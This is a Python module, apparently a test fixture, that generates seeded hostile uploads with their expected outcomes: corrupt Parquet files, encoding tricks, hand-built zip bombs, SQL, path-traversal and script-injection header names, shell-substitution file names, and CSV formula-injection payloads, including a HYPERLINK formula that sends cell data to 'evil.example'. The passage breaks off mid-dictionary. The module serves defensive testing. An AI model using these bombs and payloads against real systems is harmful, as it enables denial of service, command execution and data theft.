"""A seeded generator of hostile or malformed uploads, each with the outcome its builder knows.

Every :class:`Case` says what a correct product must do with it: accept it with ``rows`` data rows
(loaded + rejected must equal ``rows``; ``spot`` values of the first column must be loaded), or
refuse it with a reason of one ``kind`` (see :data:`KINDS`). The generator computes the rows from
what it wrote, never from what the product reports.

``cases()`` is deterministic for a given seed: the same bytes, names and expectations every run.
"""

from __future__ import annotations

import codecs
import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from functools import cache

SEED = 20_260_808

# Refusal kinds and the words that identify them in the product's message.
KINDS: dict[str, tuple[str, ...]] = {
    "empty": ("is empty",),
    "too_large": ("upload limit is",),
    "binary": ("binary", "not a csv", "not a tsv", "not a json", "not an ndjson", "not a text"),
    "compressed": ("gzip archive", "zip archive"),
    "encoding": ("not valid utf-16", "not valid utf-8", "utf-32"),
    "not_parquet": ("not a valid parquet",),
    "damaged_parquet": ("parquet file is damaged",),
    "not_xlsx": ("not an excel .xlsx", ".xls files are not supported"),
    "damaged_xlsx": ("damaged", "not an excel workbook", "password-protected"),
    "zip_bomb": ("zip bomb", "would unpack to", "parts inside"),
    "too_wide": ("the limit is 2,000",),
    "invalid_json": ("not valid json", "not valid ndjson"),
    "no_data": ("no data", "has no columns", "no rows"),
}


@dataclass(frozen=True)
class Case:
    """One hostile upload.

    Attributes:
        family: the group it belongs to in the report.
        name: the file name as a browser would send it.
        build: returns the bytes (called once, when the test uploads it).
        rows: data rows written, when it must be accepted; ``None`` when it must be refused.
        refuse: the expected refusal kind (a key of :data:`KINDS`), when it must be refused.
        spot: first-column values (as text) that must be among the loaded rows.
        columns: expected column names, in order, when the builder controls them exactly.
        limit_mb: upload limit for this case (the size-limit family uses a small one).
        bomb: a zip bomb: refused before inflation (memory and time are measured).
        note: what the case tries, in a few words.
    """

    family: str
    name: str
    build: Callable[[], bytes] = field(repr=False, compare=False)
    rows: int | None = None
    refuse: str | None = None
    spot: tuple[str, ...] = ()
    columns: tuple[str, ...] | None = None
    limit_mb: int | None = None
    bomb: bool = False
    note: str = ""


def _const(data: bytes) -> Callable[[], bytes]:
    return lambda: data


def _csv(header: list[str], rows: list[list[str]], *, sep: str = ",", nl: str = "\n") -> bytes:
    lines = [sep.join(header)] + [sep.join(r) for r in rows]
    return (nl.join(lines) + nl).encode()


def _table(rng: random.Random, n: int, tag: str) -> tuple[list[str], list[list[str]]]:
    """``n`` rows whose first column is a unique key ``<tag>-<i>``."""
    rows = [
        [f"{tag}-{i}", str(rng.randint(-1000, 1000)), rng.choice("abcxyz") * 3] for i in range(n)
    ]
    return ["key", "num", "word"], rows


def _spot(rows: list[list[str]], k: int = 3) -> tuple[str, ...]:
    picks = [rows[0], rows[len(rows) // 2], rows[-1]] if rows else []
    return tuple(dict.fromkeys(r[0] for r in picks))[:k]


def parquet_bytes(columns: dict[str, list[object]], **kw: object) -> bytes:
    import pyarrow as pa
    import pyarrow.parquet as pq

    buf = io.BytesIO()
    pq.write_table(pa.table(columns), buf, **kw)
    return buf.getvalue()


def xlsx_bytes(rows: list[list[object]], *, formula: bool = False) -> bytes:
    import openpyxl

    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "Data"
    for row in rows:
        ws.append(row)
    if formula:
        ws["D1"] = "link"
        for i in range(2, len(rows) + 1):
            ws[f"D{i}"] = f"='[other.xlsx]Sheet1'!A{i}"
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def zip_members(members: dict[str, bytes], *, method: int = zipfile.ZIP_DEFLATED) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", method) as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    return buf.getvalue()


# -- raw ZIP writing (for bombs whose sizes or layout zipfile will not produce) -------------------


@dataclass
class _Entry:
    name: str
    data: bytes  # the stored (compressed) bytes
    crc: int
    size: int  # true inflated size
    declared: int | None = None  # size written in the central directory, if it lies
    offset_of: str | None = None  # point the central directory at another entry's data


def _raw_zip(entries: list[_Entry]) -> bytes:
    """A ZIP (deflate) written by hand: lets sizes lie and entries share one compressed kernel."""
    out = io.BytesIO()
    offsets: dict[str, int] = {}
    for e in entries:
        if e.offset_of:
            continue
        offsets[e.name] = out.tell()
        name = e.name.encode()
        out.write(
            struct.pack(
                "<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0, e.crc, len(e.data), e.size, len(name), 0
            )
        )
        out.write(name + e.data)
    cd_start = out.tell()
    for e in entries:
        src = next(x for x in entries if x.name == (e.offset_of or e.name))
        name = e.name.encode()
        declared = e.declared if e.declared is not None else src.size
        out.write(
            struct.pack(
                "<IHHHHHHIIIHHHHHII",
                0x02014B50,
                20,
                20,
                0,
                8,
                0,
                0,
                src.crc,
                len(src.data),
                declared,
                len(name),
                0,
                0,
                0,
                0,
                0,
                offsets[src.name],
            )
        )
        out.write(name)
    cd_size = out.tell() - cd_start
    out.write(
        struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(entries), len(entries), cd_size, cd_start, 0)
    )
    return out.getvalue()


_SHEET_HEAD = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
)
_SHEET_TAIL = b"</sheetData></worksheet>"


@cache
def _deflated_sheet(mib: int) -> tuple[bytes, int, int]:
    """A real deflate stream of a sheet XML that inflates to about ``mib`` MiB of cells.

    One MiB of rows is compressed once with a full flush (which resets the compressor), so the
    same bytes can be repeated: building a 1 GiB bomb costs one MiB of compression and a CRC pass.
    Returns (compressed bytes, CRC-32, inflated size).
    """
    row = b'<row><c t="inlineStr"><is><t>boom</t></is></c></row>'
    chunk = row * ((1 << 20) // len(row))
    head = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = head.compress(_SHEET_HEAD) + head.flush(zlib.Z_FULL_FLUSH)
    body = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = body.compress(chunk) + body.flush(zlib.Z_FULL_FLUSH)
    tail = zlib.compressobj(9, zlib.DEFLATED, -15)
    last = tail.compress(_SHEET_TAIL) + tail.flush(zlib.Z_FINISH)
    crc = zlib.crc32(_SHEET_HEAD)
    for _ in range(mib):
        crc = zlib.crc32(chunk, crc)
    crc = zlib.crc32(_SHEET_TAIL, crc)
    return first + block * mib + last, crc, len(_SHEET_HEAD) + len(chunk) * mib + len(_SHEET_TAIL)


_WORKBOOK_PARTS = {
    "[Content_Types].xml": (
        b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        b'<Default Extension="xml" ContentType="application/xml"/>'
        b'<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
        b'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
        b"</Types>"
    ),
    "_rels/.rels": (
        b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/>'
        b"</Relationships>"
    ),
    "xl/workbook.xml": (
        b'<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
        b'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
        b'<sheets><sheet name="Data" sheetId="1" r:id="rId1"/></sheets></workbook>'
    ),
    "xl/_rels/workbook.xml.rels": (
        b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>'
        b"</Relationships>"
    ),
}


def _plain_entries() -> list[_Entry]:
    entries = []
    for name, data in _WORKBOOK_PARTS.items():
        c = zlib.compressobj(9, zlib.DEFLATED, -15)
        entries.append(_Entry(name, c.compress(data) + c.flush(), zlib.crc32(data), len(data)))
    return entries


def sheet_xml(rows: list[list[str]]) -> bytes:
    cells = "".join(
        "<row>" + "".join(f'<c t="inlineStr"><is><t>{v}</t></is></c>' for v in row) + "</row>"
        for row in rows
    )
    return _SHEET_HEAD + cells.encode() + _SHEET_TAIL


def workbook(sheet: bytes, extra: dict[str, bytes] | None = None) -> bytes:
    """A minimal hand-made workbook around one sheet XML (plus any extra members)."""
    return zip_members({**_WORKBOOK_PARTS, "xl/worksheets/sheet1.xml": sheet, **(extra or {})})


def bomb_honest(mib: int) -> bytes:
    """A workbook whose one sheet really inflates to ``mib`` MiB (about 1,000:1)."""
    data, crc, size = _deflated_sheet(mib)
    return _raw_zip([*_plain_entries(), _Entry("xl/worksheets/sheet1.xml", data, crc, size)])


def bomb_overlapping(copies: int, mib: int) -> bytes:
    """Many central-directory entries sharing one compressed kernel: ``copies`` × ``mib`` MiB."""
    data, crc, size = _deflated_sheet(mib)
    kernel = _Entry("xl/worksheets/sheet1.xml", data, crc, size)
    shared = [
        _Entry(f"xl/worksheets/sheet{i}.xml", b"", 0, 0, offset_of=kernel.name)
        for i in range(2, copies + 1)
    ]
    return _raw_zip([*_plain_entries(), kernel, *shared])


def bomb_declared(declared: int) -> bytes:
    """A small honest sheet whose central directory declares ``declared`` bytes."""
    sheet = sheet_xml([["a"], ["1"]])
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    data = c.compress(sheet) + c.flush()
    entry = _Entry("xl/worksheets/sheet1.xml", data, zlib.crc32(sheet), len(sheet), declared)
    return _raw_zip([*_plain_entries(), entry])


def bomb_understated(mib: int) -> bytes:
    """The opposite lie: a 1,000:1 sheet that declares only 100 kB (zipfile stops there, CRC fails)."""
    data, crc, size = _deflated_sheet(mib)
    entry = _Entry("xl/worksheets/sheet1.xml", data, crc, size, declared=100_000)
    return _raw_zip([*_plain_entries(), entry])


def bomb_nested(mib: int) -> bytes:
    """A workbook carrying an honest bomb as a stored (not inflated) inner archive."""
    inner = bomb_honest(mib)
    return workbook(sheet_xml([["k"], ["nested-1"]]), {"xl/embeddings/inner.zip": inner})


# -- the cases ----------------------------------------------------------------------------------


def cases(seed: int = SEED) -> list[Case]:
    """Every hostile case, in a fixed order; ≥ 300 cases across ≥ 15 families."""
    rng = random.Random(seed)
    out: list[Case] = []
    for make in _FAMILIES:
        out.extend(make(rng))
    return out


def _empty(rng: random.Random) -> Iterator[Case]:
    for ext in ("csv", "tsv", "txt", "json", "ndjson", "parquet", "xlsx", "bin"):
        yield Case("empty file", f"empty.{ext}", _const(b""), refuse="empty", note="0 bytes")


def _header_only(rng: random.Random) -> Iterator[Case]:
    variants = {
        "h1.csv": b"a,b,c\n",
        "h2.csv": b"a,b,c",
        "h3.csv": b"a,b,c\r\n",
        "h4.tsv": b"a\tb\tc\n",
        "h5.csv": b"\xef\xbb\xbfa,b,c\n",
        "h6.csv": b"only_one_column\n",
    }
    for name, data in variants.items():
        cols = tuple(data.decode("utf-8-sig").strip().split("\t" if name.endswith("tsv") else ","))
        yield Case(
            "header only", name, _const(data), rows=0, columns=cols, note="a header line, no rows"
        )
    yield Case("header only", "h7.json", _const(b"[]"), rows=0, note="an empty JSON array")
    yield Case("header only", "h8.ndjson", _const(b"\n\n"), rows=0, note="blank lines only")


def _random_bytes(rng: random.Random) -> Iterator[Case]:
    expect = {
        "csv": "binary",
        "tsv": "binary",
        "txt": "binary",
        "json": "binary",
        "ndjson": "binary",
        "parquet": "not_parquet",
        "xlsx": "not_xlsx",
    }
    for ext, kind in expect.items():
        for i in range(6):
            size = rng.choice((300, 4_000, 70_000, 300_000))
            data = bytes(rng.getrandbits(8) for _ in range(min(size, 2_000))) * (size // 2_000 + 1)
            data = data[:size]
            if data[:4] in (b"PAR1", b"PK\x03\x04"):
                data = b"\x00" + data[1:]
            yield Case(
                "random bytes", f"noise{i}.{ext}", _const(data), refuse=kind, note=f"{size:,} B"
            )


def _parquet_base(rng: random.Random, *, checksums: bool = False) -> tuple[bytes, int]:
    n = 2_000
    data = parquet_bytes(
        {"key": [f"pq-{i}" for i in range(n)], "v": [rng.random() for _ in range(n)]},
        row_group_size=500,
        write_page_checksum=checksums,
    )
    return data, n


def _truncated_parquet(rng: random.Random) -> Iterator[Case]:
    data, _ = _parquet_base(rng)
    cuts = sorted(
        {
            4,
            8,
            11,
            12,
            13,
            100,
            len(data) // 3,
            len(data) // 2,
            len(data) - 100,
            len(data) - 9,
            len(data) - 8,
            len(data) - 5,
            len(data) - 4,
            len(data) - 1,
        }
    )
    for cut in cuts:
        kind = "not_parquet" if cut < 12 else "damaged_parquet"
        yield Case(
            "truncated Parquet",
            f"cut{cut}.parquet",
            _const(data[:cut]),
            refuse=kind,
            note=f"cut at byte {cut:,} of {len(data):,}",
        )


def _corrupt_parquet(rng: random.Random) -> Iterator[Case]:
    data, n = _parquet_base(rng, checksums=True)
    flen = struct.unpack("<I", data[-8:-4])[0]
    footer = len(data) - 8 - flen

    def patch(at: int, new: bytes) -> bytes:
        return data[:at] + new + data[at + len(new) :]

    variants = {
        "bad_head_magic": (patch(0, b"PAR0"), "not_parquet"),
        "bad_tail_magic": (patch(len(data) - 4, b"PARX"), "damaged_parquet"),
        "footer_len_huge": (patch(len(data) - 8, struct.pack("<I", 0x7FFFFFFF)), "damaged_parquet"),
        "footer_len_zero": (patch(len(data) - 8, struct.pack("<I", 0)), "damaged_parquet"),
        "footer_len_short": (patch(len(data) - 8, struct.pack("<I", flen // 2)), "damaged_parquet"),
        "footer_zeroed": (patch(footer, b"\x00" * flen), "damaged_parquet"),
        "footer_ff": (patch(footer, b"\xff" * flen), "damaged_parquet"),
        "only_magic": (b"PAR1" + b"\x00" * 8 + b"PAR1", "damaged_parquet"),
    }
    for i in range(6):  # random bytes sprayed over the footer
        at = footer + rng.randrange(max(1, flen - 16))
        variants[f"footer_noise{i}"] = (
            patch(at, bytes(rng.getrandbits(8) for _ in range(16))),
            "damaged_parquet",
        )
    for name, (blob, kind) in variants.items():
        yield Case(
            "corrupt Parquet",
            f"{name}.parquet",
            _const(blob),
            refuse=kind,
            note=name.replace("_", " "),
        )
    for i in range(
        4
    ):  # the data pages damaged, footer intact: must fail cleanly, never load garbage
        at = 4 + rng.randrange(footer // 2)
        blob = patch(at, bytes(rng.getrandbits(8) for _ in range(64)))
        yield Case(
            "corrupt Parquet",
            f"pages_noise{i}.parquet",
            _const(blob),
            refuse="damaged_parquet",
            note="data pages overwritten, footer intact",
        )
    yield Case(
        "corrupt Parquet",
        "good.parquet",
        _const(data),
        rows=n,
        spot=("pq-0", f"pq-{n - 1}"),
        note="the intact original (control)",
    )


def _ragged(rng: random.Random) -> Iterator[Case]:
    for i in range(12):
        header, rows = _table(rng, rng.randint(20, 200), f"rag{i}")
        bad = set(rng.sample(range(1, len(rows) - 1), k=rng.randint(1, 5)))
        lines = []
        for j, r in enumerate(rows):
            if j in bad:
                r = (
                    r + ["extra"] * rng.randint(1, 3)
                    if rng.random() < 0.5
                    else r[: rng.randint(1, 2)]
                )
            lines.append(r)
        good = [r for j, r in enumerate(rows) if j not in bad]
        yield Case(
            "ragged rows",
            f"ragged{i}.csv",
            _const(_csv(header, lines)),
            rows=len(rows),
            spot=_spot(good),
            note=f"{len(bad)} of {len(rows)} rows with more/fewer fields",
        )


def _quotes(rng: random.Random) -> Iterator[Case]:
    for i in range(8):
        header, rows = _table(rng, 60, f"q{i}")
        at = rng.randrange(10, 50)
        rows[at][2] = '"unterminated' if i % 2 else 'x"y"z'
        yield Case(
            "unbalanced quotes",
            f"quotes{i}.csv",
            _const(_csv(header, rows)),
            rows=len(rows),
            spot=(rows[0][0],),
            note=f"stray quote on row {at + 1}",
        )


def _nul(rng: random.Random) -> Iterator[Case]:
    for i in range(6):
        header, rows = _table(rng, 50, f"nul{i}")
        data = bytearray(_csv(header, rows))
        at = rng.randrange(10, len(data) - 2)
        data[at:at] = b"\x00" * (1 + i)
        yield Case(
            "NUL bytes",
            f"nul{i}.csv",
            _const(bytes(data)),
            refuse="binary",
            note="NUL in the first 64 kB",
        )
    header, rows = _table(rng, 5_000, "late")
    data = _csv(header, rows)
    yield Case(
        "NUL bytes",
        "late_nul.csv",
        _const(data + b"late-x,1,a\x00b\n"),
        rows=len(rows) + 1,
        spot=_spot(rows),
        note="a NUL after the first 64 kB",
    )


def _encodings(rng: random.Random) -> Iterator[Case]:
    header, rows = _table(rng, 40, "enc")
    words = ["café", "naïve", "Ærø", "Übermaß", "garçon", "señor"]
    for r, w in zip(rows, words * 10, strict=False):
        r[2] = w
    text = "\n".join(",".join(r) for r in [header, *rows]) + "\n"
    spot = _spot(rows)
    n = len(rows)
    yield Case(
        "encodings", "latin1.csv", _const(text.encode("latin-1")), rows=n, spot=spot, note="Latin-1"
    )
    yield Case(
        "encodings",
        "cp1252.csv",
        _const(text.replace("café", "caf€").encode("cp1252")),
        rows=n,
        spot=spot,
        note="Windows-1252 (€ = 0x80)",
    )
    mixed = "\n".join(
        (",".join(r)).encode("utf-8" if i % 2 else "latin-1").decode("latin-1")
        for i, r in enumerate([header, *rows])
    )
    yield Case(
        "encodings",
        "mixed.csv",
        _const(mixed.encode("latin-1") + b"\n"),
        rows=n,
        spot=spot,
        note="UTF-8 and Latin-1 lines mixed",
    )
    bad = text.encode() + b"bad-\xff\xfe,1,\xc3\x28\n"
    yield Case(
        "encodings",
        "invalid_utf8.csv",
        _const(bad),
        rows=n + 1,
        spot=spot,
        note="invalid UTF-8 sequences",
    )
    yield Case(
        "encodings",
        "overlong.csv",
        _const(text.encode() + b"ov-1,1,\xc0\xaf\n"),
        rows=n + 1,
        spot=spot,
        note="overlong UTF-8 for '/'",
    )
    yield Case(
        "encodings",
        "surrogate.csv",
        _const(text.encode() + b"sur-1,1,\xed\xa0\x80\n"),
        rows=n + 1,
        spot=spot,
        note="an encoded UTF-16 surrogate",
    )
    for bom, enc, tag in (
        (codecs.BOM_UTF8, "utf-8", "bom_utf8"),
        (codecs.BOM_UTF16_LE, "utf-16-le", "bom_utf16le"),
        (codecs.BOM_UTF16_BE, "utf-16-be", "bom_utf16be"),
        (b"", "utf-16-le", "utf16le_nobom"),
        (b"", "utf-16-be", "utf16be_nobom"),
    ):
        yield Case(
            "encodings",
            f"{tag}.csv",
            _const(bom + text.encode(enc)),
            rows=n,
            spot=spot,
            columns=tuple(header),
            note=tag.replace("_", " "),
        )
    yield Case(
        "encodings",
        "bom_utf32.csv",
        _const(codecs.BOM_UTF32_LE + text.encode("utf-32-le")),
        refuse="encoding",
        note="UTF-32 (unsupported)",
    )
    yield Case(
        "encodings",
        "bad_utf16.csv",
        _const(codecs.BOM_UTF16_LE + text.encode("utf-16-le") + b"\x00\xd8a\x00"),
        refuse="encoding",
        note="UTF-16 with a lone surrogate",
    )
    yield Case(
        "encodings",
        "odd_utf16.csv",
        _const(codecs.BOM_UTF16_LE + text.encode("utf-16-le") + b"x"),
        refuse="encoding",
        note="UTF-16 with an odd byte count",
    )
    yield Case(
        "encodings",
        "bom_twice.csv",
        _const(codecs.BOM_UTF8 * 2 + text.encode()),
        rows=n,
        spot=spot,
        note="two UTF-8 BOMs",
    )


def _newlines(rng: random.Random) -> Iterator[Case]:
    for i, (tag, nl) in enumerate((("crlf", "\r\n"), ("lf", "\n"), ("cr", "\r"))):
        header, rows = _table(rng, 80, f"nl{i}")
        yield Case(
            "line endings",
            f"{tag}.csv",
            _const(_csv(header, rows, nl=nl)),
            rows=len(rows),
            spot=_spot(rows),
            columns=tuple(header),
            note=tag.upper(),
        )
    for i in range(4):
        header, rows = _table(rng, 80, f"mix{i}")
        lines = [",".join(r) for r in [header, *rows]]
        text = "".join(line + rng.choice(("\r\n", "\n")) for line in lines)
        yield Case(
            "line endings",
            f"mixed_nl{i}.csv",
            _const(text.encode()),
            rows=len(rows),
            spot=_spot(rows),
            note="CRLF and LF mixed",
        )
    header, rows = _table(rng, 30, "blank")
    text = ",".join(header) + "\n" + "".join(",".join(r) + "\n\n" for r in rows)
    yield Case(
        "line endings",
        "blank_lines.csv",
        _const(text.encode()),
        rows=len(rows),
        spot=_spot(rows),
        note="a blank line after every row",
    )


def _quoted_newlines(rng: random.Random) -> Iterator[Case]:
    for i in range(6):
        header, rows = _table(rng, 50, f"qn{i}")
        for r in rng.sample(rows, 10):
            r[2] = '"line one' + rng.choice(("\n", "\r\n")) + 'line, two"'
        yield Case(
            "quoted newlines",
            f"qnl{i}.csv",
            _const(_csv(header, rows)),
            rows=len(rows),
            spot=_spot(rows),
            note="10 cells with a newline and a comma inside quotes",
        )


def _long_lines(rng: random.Random) -> Iterator[Case]:
    big = "x" * (5 << 20)
    yield Case(
        "5 MB line",
        "long_cell.csv",
        _const(f"key,blob\nlong-1,{big}\nlong-2,short\n".encode()),
        rows=2,
        spot=("long-2",),
        note="one 5 MB cell",
    )
    yield Case(
        "5 MB line",
        "long_header.csv",
        _const(("h" * (5 << 20) + "\n1\n").encode()),
        rows=1,
        note="a 5 MB header",
    )
    yield Case(
        "5 MB line",
        "one_line.csv",
        _const(big.encode()),
        rows=0,
        note="5 MB, no newline (one line: a header)",
    )
    yield Case(
        "5 MB line",
        "long_json.ndjson",
        _const(f'{{"key": "j-1", "blob": "{big}"}}\n'.encode()),
        rows=1,
        spot=("j-1",),
        note="a 5 MB NDJSON record",
    )


def _wide(rng: random.Random) -> Iterator[Case]:
    for n in (2_001, 2_500, 10_000):
        row = ",".join(str(i) for i in range(n))
        header = ",".join(f"c{i}" for i in range(n))
        yield Case(
            "2,001+ columns",
            f"wide{n}.csv",
            _const(f"{header}\n{row}\n".encode()),
            refuse="too_wide",
            note=f"{n:,} CSV columns",
        )
    n = 2_001
    yield Case(
        "2,001+ columns",
        "wide.tsv",
        _const(("\t".join(f"c{i}" for i in range(n)) + "\n" + "\t".join("1" * n) + "\n").encode()),
        refuse="too_wide",
        note="2,001 TSV columns",
    )
    obj = "{" + ",".join(f'"k{i}": {i}' for i in range(n)) + "}"
    yield Case(
        "2,001+ columns",
        "wide.json",
        _const(f"[{obj}]".encode()),
        rows=1,
        note="2,001 JSON keys (read as one MAP column)",
    )
    yield Case(
        "2,001+ columns",
        "wide.ndjson",
        _const(f"{obj}\n".encode()),
        rows=1,
        note="2,001 NDJSON keys (read as one MAP column)",
    )
    yield Case(
        "2,001+ columns",
        "wide.parquet",
        _const(parquet_bytes({f"c{i}": [1] for i in range(n)})),
        refuse="too_wide",
        note="2,001 Parquet columns",
    )
    yield Case(
        "2,001+ columns",
        "wide.xlsx",
        _const(workbook(sheet_xml([[f"c{i}" for i in range(n)], ["1"] * n]))),
        refuse="too_wide",
        note="2,001 Excel columns",
    )
    yield Case(
        "2,001+ columns",
        "wide2000.csv",
        _const(
            (",".join(f"c{i}" for i in range(2_000)) + "\n" + ",".join("1" * 2_000) + "\n").encode()
        ),
        rows=1,
        spot=("1",),
        note="exactly 2,000 columns (control)",
    )


_HOSTILE_HEADERS = [
    'x"; DROP TABLE files; --',
    "x'); DELETE FROM t; --",
    'quote"inside',
    '""',
    "back`tick`",
    "`; DROP TABLE x; `",
    "../../etc/passwd",
    "..\\..\\windows",
    "ctl\x01\x07\x1b[31m",
    "tab\there",
    "zero\u200bwidth",
    "rtl\u202eexe.csv",
    "SELECT",
    "rowid",
    "*",
    "%s%n%x",
    "{{7*7}}",
    "<script>alert(1)</script>",
    "emoji 🎉",
    "h" * 10_000,
]


def _headers(rng: random.Random) -> Iterator[Case]:
    for i, bad in enumerate(_HOSTILE_HEADERS):
        name = bad.replace('"', '""')
        header = ["key", f'"{name}"', "other"]
        rows = [[f"hh{i}-{j}", str(j), "v"] for j in range(5)]
        yield Case(
            "hostile header names",
            f"hdr{i}.csv",
            _const(_csv(header, rows)),
            rows=5,
            spot=_spot(rows),
            note=repr(bad[:24]) + ("…" if len(bad) > 24 else ""),
        )
    dup = [
        ("dup.csv", ["key", "a", "a", "A"], "duplicate names"),
        ("blank.csv", ["key", "", ""], "empty names"),
        ("spaces.csv", ["key", " ", "  "], "blank names"),
        ("numeric.csv", ["key", "1", "2"], "numeric names"),
        ("dup_key.csv", ["key", "key", "key_1"], "a name clashing with a renamed duplicate"),
    ]
    for name, header, note in dup:
        rows = [[f"{name}-{j}"] + [str(j)] * (len(header) - 1) for j in range(4)]
        # a header line with empty or numeric names is not recognisable as a header: it must be
        # kept as one more data row (nothing lost), so 5 rows come in
        extra = 1 if name in ("blank.csv", "numeric.csv") else 0
        yield Case(
            "duplicate/empty headers",
            name,
            _const(_csv(header, rows)),
            rows=4 + extra,
            spot=_spot(rows),
            note=note + (" (kept as a data row)" if extra else ""),
        )
    yield Case(
        "duplicate/empty headers",
        "dup_keys.json",
        _const(b'[{"key": "dk-1", "a": 1, "a": 2}]'),
        refuse="invalid_json",
        note="a repeated JSON key",
    )
    yield Case(
        "duplicate/empty headers",
        "empty_key.json",
        _const(b'[{"key": "ek-1", "": 1}]'),
        rows=1,
        spot=("ek-1",),
        note="an empty JSON key",
    )
    yield Case(
        "duplicate/empty headers",
        "xl_dup.xlsx",
        _const(xlsx_bytes([["key", "a", "a", None, "b"], ["xd-1", 1, 2, 3, 4]])),
        rows=1,
        spot=("xd-1",),
        note="Excel: duplicate and missing names",
    )


_HOSTILE_NAMES = [
    "../../etc/passwd.csv",
    "..\\..\\boot.ini.csv",
    "/etc/shadow.csv",
    "C:\\Windows\\system32\\x.csv",
    "nul\x00byte.csv",
    "a" * 300 + ".csv",
    "é" * 200 + ".csv",
    "invoice\u202etxt.exe.csv",
    "con.csv",
    "PRN.csv",
    "aux.csv",
    "com1.csv",
    "lpt1.csv",
    ".csv",
    "...csv",
    ".hidden.csv",
    " spaced .csv",
    "new\nline.csv",
    "tab\tname.csv",
    "quote'\".csv",
    "semi;colon.csv",
    "$(reboot).csv",
    "`id`.csv",
    "%00.csv",
    "%2e%2e%2fetc.csv",
    "select.csv",
    "files.csv",
    "data.parquet.csv",
    "😀.csv",
    "\u0000\u0000.csv",
]


def _file_names(rng: random.Random) -> Iterator[Case]:
    for i, name in enumerate(_HOSTILE_NAMES):
        rows = [[f"fn{i}-{j}", str(j)] for j in range(3)]
        yield Case(
            "hostile file names",
            name,
            _const(_csv(["key", "n"], rows)),
            rows=3,
            spot=_spot(rows),
            note=repr(name[:24]) + ("…" if len(name) > 24 else ""),
        )
    yield Case(
        "hostile file names",
        "data.parquet",
        _const(b"key\nnot-parquet\n"),
        refuse="not_parquet",
        note="CSV bytes named data.parquet",
    )


FORMULAS = [
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "\t=1+1",
    "\r=1+1",
    "=1+1",
]


def _formulas(rng: random.Random) -> Iterator[Case]:
    for i, f in enumerate(FORMULAS):
        quoted = '"' + f.replace('"', '""') + '"'
        rows = [[f"fx{i}-{j}", quoted] for j in range(3)]
        yield Case(
            "formula injection",
            f"formula{i}.csv",
            _const(_csv(["key", "cell"], rows)),
            rows=3,
            spot=_spot(rows),
            note=repr(f[:20]),
        )
    yield Case(
        "formula injection",
        "formula.xlsx",
        _const(
            xlsx_bytes([["key", "n", "w"], *[[f"xf-{j}", j, "w"] for j in range(5)]], formula=True)
        ),
        rows=5,
        spot=("xf-0", "xf-4"),
        note="Excel cells with formulas to an external workbook",
    )


def _json(rng: random.Random) -> Iterator[Case]:
    deep = "[" * 10_000 + "]" * 10_000
    deep_obj = '{"a":' * 10_000 + "1" + "}" * 10_000
    refused = {
        "unicode_escapes.json": ('[{"key": "ue-1", "v": "\\u0000\\ud800\\u202e"}]', "invalid_json"),
        "dup_key_ndjson.ndjson": ('{"key": "d-1", "key": "d-2"}\n', "invalid_json"),
        "deep_array.json": (deep, "invalid_json"),
        "deep_object.json": (f"[{deep_obj}]", "invalid_json"),
        "trailing_garbage.json": ('[{"a": 1}] xyz', "invalid_json"),
        "unclosed.json": ('[{"a": 1}, {"a": ', "invalid_json"),
        "single_quotes.json": ("[{'a': 1}]", "invalid_json"),
        "broken_mid.ndjson": (
            '{"key": "b-1"}\n{"key": "b-2"}\n{"key": \n{"key": "b-4"}\n',
            "invalid_json",
        ),
        "not_json.json": ("hello, world", "invalid_json"),
    }
    for name, (text, kind) in refused.items():
        yield Case(
            "JSON shapes",
            name,
            _const(text.encode()),
            refuse=kind,
            note=name.rsplit(".", 1)[0].replace("_", " "),
        )
    accepted = {
        "scalar_num.json": ("42", 1, ("42",)),
        "scalar_str.json": ('"just a string"', 1, ("just a string",)),
        "scalar_null.json": ("null", 1, ()),
        "scalar_true.json": ("true", 1, ("true",)),
        "array_of_nums.json": ("[1, 2, 3]", 3, ("1", "3")),
        "nan.json": ('[{"key": "n-1", "v": NaN}]', 1, ("n-1",)),
        "infinity.json": ('[{"key": "i-1", "v": -Infinity}]', 1, ("i-1",)),
        "object.json": ('{"key": "o-1", "v": 1}', 1, ("o-1",)),
        "huge_int.json": ('[{"key": "h-1", "v": 123456789012345678901234567890123}]', 1, ("h-1",)),
        "huge_float.json": ('[{"key": "hf-1", "v": 1e400}]', 1, ("hf-1",)),
        "tiny_float.json": ('[{"key": "tf-1", "v": 1e-400}]', 1, ("tf-1",)),
        "mixed_types.json": (
            '[{"key": "m-1", "v": 1}, {"key": "m-2", "v": "x"}, {"key": "m-3", "v": [1]}, {"key": "m-4", "v": {"a": 1}}, {"key": "m-5", "v": null}]',
            5,
            ("m-1", "m-5"),
        ),
        "missing_keys.json": (
